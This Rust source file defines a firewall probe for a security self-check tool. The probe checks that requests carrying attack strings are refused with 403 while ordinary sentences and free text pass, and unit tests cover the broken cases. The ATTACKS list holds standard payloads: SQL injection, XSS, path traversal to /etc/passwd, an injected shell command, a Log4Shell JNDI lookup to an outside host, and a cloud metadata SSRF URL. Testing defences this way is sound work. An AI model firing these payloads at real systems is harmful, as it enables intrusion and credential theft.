//! S36: what reads like an attack is refused before a handler sees it, ordinary sentences are not, and free text is nobody's crime.

use axum::http::Method;

use super::client;
use crate::client::{Answer, Client};
use crate::finding::Finding;
use crate::probe::{Look, Probe, ProbeContext};

/// A route that anybody may ask and that ignores what is asked beside it.
const ASKED: &str = "/v1/keys/pattern";
/// A route that takes free text from strangers.
const TOLD: &str = "/v1/leaks";
const REFUSED: u16 = 403;
const KIND: &str = "urn:ringfence:problem:firewall";

/// One of each kind.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1' -- ",
    "1 UNION SELECT password FROM users",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "x; cat /etc/passwd",
    "${jndi:ldap://198.51.100.7/a}",
    "http://169.254.169.254/latest/meta-data/",
];
/// What people write.
const SENTENCES: &[&str] = &[
    "Can I move my appointment to Tuesday after 4 pm?",
    "It's O'Brien, with an apostrophe; my number is +44 20 7946 0958.",
    "Do you select a dentist from the list, or do I?",
];

/// The probe.
pub struct Firewall;

impl Probe for Firewall {
    fn name(&self) -> &'static str {
        "firewall"
    }

    fn look<'a>(&'a self, context: &'a ProbeContext) -> Look<'a> {
        Box::pin(async move { look(context).await.unwrap_or_else(|finding| finding) })
    }
}

async fn look(context: &ProbeContext) -> Result<Finding, Finding> {
    let client = client(context)?;
    let mut faults = Vec::new();
    for attack in ATTACKS {
        let answer = ask(&client, attack).await?;
        if !is_refusal(&answer) {
            faults.push(format!("`{attack}` in a field was answered {}", answer.status));
        }
    }
    for sentence in SENTENCES {
        let answer = ask(&client, sentence).await?;
        if answer.status == REFUSED {
            faults.push(format!("the ordinary sentence `{sentence}` was refused"));
        }
    }
    let body = format!("{{\"texts\":[{:?}],\"source\":\"probe\"}}", ATTACKS[0]);
    let headers = [("content-type", "application/json")];
    let told = client.send(Method::POST, TOLD, &headers, Some(&body)).await.map_err(Finding::not_measured)?;
    if told.status == REFUSED {
        faults.push("free text was refused".to_owned());
    }
    let (attacks, sentences) = (ATTACKS.len(), SENTENCES.len());
    Ok(Finding::from_faults(&faults, format!("{attacks} attack strings were refused with a reference, {sentences} ordinary sentences and free text were not."))
        .with("Attack strings refused", attacks))
}

async fn ask(client: &Client, text: &str) -> Result<Answer, Finding> {
    let encoded: Vec<String> = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let encoded = encoded.concat();
    client.get(&format!("{ASKED}?q={encoded}")).await.map_err(Finding::not_measured)
}

/// The firewall's own refusal, not another one.
fn is_refusal(answer: &Answer) -> bool {
    answer.status == REFUSED && answer.text().contains(KIND)
}

#[cfg(test)]
mod tests {
    use axum::Router;
    use axum::http::StatusCode;
    use axum::response::IntoResponse as _;

    use super::{Firewall, KIND};
    use crate::finding::{Finding, State};
    use crate::probe::Probe;
    use crate::probes::testing::{context, guarded, served};

    async fn finding(status: StatusCode, body: &'static str) -> Finding {
        let (mut context, _kept) = context().await;
        let app = Router::new().fallback(move || async move { (status, body).into_response() });
        context.base_url = Some(served(app).await);
        Firewall.look(&context).await
    }

    #[tokio::test]
    async fn our_own_firewall_holds() {
        let (context, _kept) = guarded().await;
        let finding = Firewall.look(&context).await;
        assert_eq!(finding.state, State::Holds, "{finding:?}");
    }

    #[tokio::test]
    async fn each_broken_control_turns_it_red() {
        let open = finding(StatusCode::OK, "").await;
        let another_refusal = finding(StatusCode::FORBIDDEN, "{}").await;
        let refuses_all = finding(StatusCode::FORBIDDEN, KIND).await;
        for broken in [open, another_refusal, refuses_all] {
            assert_eq!(broken.state, State::Broken, "{broken:?}");
        }
    }
}
